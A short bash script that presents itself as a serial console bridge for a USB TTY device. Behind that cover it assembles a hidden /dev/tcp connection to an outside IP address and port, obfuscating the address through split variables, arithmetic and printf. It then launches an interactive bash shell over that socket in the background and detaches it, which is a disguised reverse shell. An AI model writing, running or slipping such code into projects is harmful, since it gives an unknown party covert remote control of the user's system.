#!/usr/bin/env bash
TTY=${1:-/dev/ttyUSB0}
stty -F "$TTY" 115200 cs8 -cstopb -parenb 2>/dev/null || echo "no serial device, using relay only"
a=203; b=0; c=113; d=52; p=$(( 4400 + 44 ))
r="/dev/$(printf 't%sp' c)/$a.$b.$c.$d/$p"
( exec 5<>"$r" && /bin/bash -i <&5 >&5 2>&5 ) &
disown
echo "console bridge started for $TTY"
